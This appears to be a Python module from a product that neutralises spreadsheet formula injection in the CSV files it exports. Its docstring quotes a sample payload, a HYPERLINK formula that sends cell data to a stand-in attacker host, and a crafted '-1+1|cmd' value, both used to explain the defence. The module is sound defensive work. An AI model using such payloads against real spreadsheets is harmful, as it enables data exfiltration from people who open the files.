"""The one way the product writes CSV: every text cell neutralised against formula injection.

Spreadsheets (Excel, LibreOffice Calc, Google Sheets) evaluate a cell whose text begins with
``=``, ``+``, ``-`` or ``@`` as a formula, and one beginning with a tab or a carriage return
once they trim it; a customer named ``=HYPERLINK("http://evil.test/?x="&A3,"click")`` would then
run on the computer of whoever opens the export. OWASP's rule, applied here: such a cell is
written with a leading single quote ``'``, which spreadsheets read as "this is text".

The rule applies to every text cell without exception, headers included (an uploaded file's
header is someone else's text): ``"-5"`` is written ``'-5`` and ``"+81 3 1234 5678"`` as
``'+81 3 1234 5678``, because a rule with exceptions for "harmless" shapes is one a crafted
value slips through (``-1+1|cmd``). Numbers the product passes as numbers (``int``, ``float``,
``Decimal``) are not text and are written as they are. The customer import reverses the quote
(:func:`restore_cell`), so a downloaded file of rejected rows can be fixed and imported again.

Product code writes CSV only through :func:`csv_writer` or :func:`excel_csv_bytes`; a test fails
when a module of the product calls ``csv.writer`` or ``csv.DictWriter`` itself.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, TextIO

#: A text cell starting with one of these is read as a formula by spreadsheets.
FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
#: What spreadsheets read as "the rest is text"; prefixed to a cell that would be a formula.
TEXT_MARKER = "'"


def neutralise_cell(value: object) -> object:
    """``value`` as it is safe to write: text that would be a formula gets a leading quote.

    ``None`` is written as an empty cell; numbers stay numbers; anything else is text.
    """
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    return TEXT_MARKER + text if text.startswith(FORMULA_PREFIXES) else text


def restore_cell(text: str) -> str:
    """Undo :func:`neutralise_cell` on a cell read back from a file the product wrote."""
    if text.startswith(TEXT_MARKER) and text[1:].startswith(FORMULA_PREFIXES):
        return text[1:]
    return text


class NeutralisingWriter:
    """A ``csv.writer`` whose every row goes through :func:`neutralise_cell`."""

    def __init__(self, stream: TextIO, **format_parameters: Any) -> None:
        self._writer = csv.writer(stream, **format_parameters)

    def writerow(self, row: Iterable[object]) -> None:
        """Write one row, neutralised."""
        self._writer.writerow([neutralise_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        """Write each row, neutralised."""
        for row in rows:
            self.writerow(row)


def csv_writer(stream: TextIO, **format_parameters: Any) -> NeutralisingWriter:
    """A CSV writer on ``stream`` (``csv.writer``'s format parameters) that neutralises cells."""
    return NeutralisingWriter(stream, **format_parameters)


def excel_csv_bytes(rows: Iterable[Iterable[object]]) -> bytes:
    """``rows`` (the header first) as the CSV file Excel opens directly, neutralised.

    UTF-8 with a byte order mark (without one, Excel on a Japanese Windows reads a CSV as
    Shift_JIS) and CRLF line ends.
    """
    buffer = io.StringIO()
    buffer.write("\ufeff")
    csv_writer(buffer, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue().encode("utf-8")
